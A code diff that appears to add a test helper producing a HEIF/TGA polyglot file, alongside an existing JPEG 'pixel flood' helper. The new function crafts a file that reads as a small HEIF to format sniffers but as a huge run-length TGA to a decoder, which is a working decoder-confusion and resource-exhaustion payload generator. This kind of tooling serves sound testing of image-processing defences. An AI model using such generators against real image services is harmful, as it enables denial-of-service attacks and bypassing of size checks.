@@ -128,3 +128,53 @@ export function jpegPixelFlood(smallJpeg, width, height) {
   }
   throw new Error('no SOF marker found');
 }
+
+/**
+ * A decoder-confusion polyglot: a real HEIF file (`heif`, e.g. made with makeImage(...,
+ * 'x.heic')) whose `ftyp` box is rewritten so that its first 18 bytes are also the header
+ * of a run-length-encoded greyscale TGA of width x height pixels, and a trailing `free`
+ * box holds enough TGA runs to fill them. The HEIF header stays parseable (small, honest
+ * dimensions); read as a TGA the same file is a width x height image. `majorBrand` and
+ * `compatible` set the ftyp brands (the attack uses a brand only some sniffers know).
+ */
+export function heifTgaPolyglot(heif, width, height, { majorBrand = 'isom', compatible = ['mif1', 'heic', 'miaf'] } = {}) {
+  const src = Buffer.from(heif);
+  const oldFtyp = src.readUInt32BE(0);
+  if (src.toString('latin1', 4, 8) !== 'ftyp') throw new Error('not an ISO-BMFF file');
+  // Box size 0x00000B00: bytes 1 and 2 read as TGA colour-map type 0 and image type 11.
+  const ftypSize = 0x0b00;
+  const ftyp = Buffer.alloc(ftypSize);
+  ftyp.writeUInt32BE(ftypSize, 0);
+  ftyp.write('ftyp', 4, 'latin1');
+  ftyp.write(majorBrand, 8, 'latin1');           // TGA x and y origin
+  ftyp.writeUInt16LE(width, 12);                 // minor version = TGA width, height
+  ftyp.writeUInt16LE(height, 14);
+  ftyp[16] = 8;                                  // TGA bits per pixel
+  ftyp[17] = 0x20;                               // TGA: rows top to bottom
+  compatible.forEach((b, i) => ftyp.write(b, 20 + 4 * i, 'latin1'));
+  const fixedEnd = 20 + 4 * compatible.length;   // bytes before this are not ours to choose
+  const rest = src.subarray(oldFtyp);
+  const pixels = width * height;
+  const freeSize = 8 + Math.ceil(pixels / 128) * 2 + 4096;
+  const free = Buffer.alloc(freeSize);
+  free.writeUInt32BE(freeSize, 0);
+  free.write('free', 4, 'latin1');
+  const file = Buffer.concat([ftyp, rest, free]);
+  const ours = (at) => (at >= fixedEnd && at < ftypSize) || at >= ftypSize + rest.length + 8;
+  // Walk the file as a TGA decoder would, writing a run of 128 black pixels wherever a
+  // packet header falls on a byte we choose.
+  let at = 18;
+  let filled = 0;
+  while (filled < pixels) {
+    if (at + 1 >= file.length) throw new Error('the free box is too small');
+    if (ours(at)) {
+      file[at] = 0xff;
+      if (ours(at + 1)) file[at + 1] = 0;
+    }
+    const header = file[at];
+    const count = (header & 0x7f) + 1;
+    at += header & 0x80 ? 2 : 1 + count;
+    filled += count;
+  }
+  return file;
+}
